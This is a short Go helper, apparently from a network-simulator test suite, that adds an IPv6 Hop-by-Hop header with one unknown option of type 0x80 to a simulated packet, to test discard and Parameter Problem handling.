// hopByHop gives an IPv6 packet a Hop-by-Hop header with one option of
// unknown type 0x80 ("discard, and send a Parameter Problem even to a
// multicast destination").
func hopByHop(p sim.Packet) sim.Packet {
	p.HopByHop = []byte{0x80, 0}
	return p
}
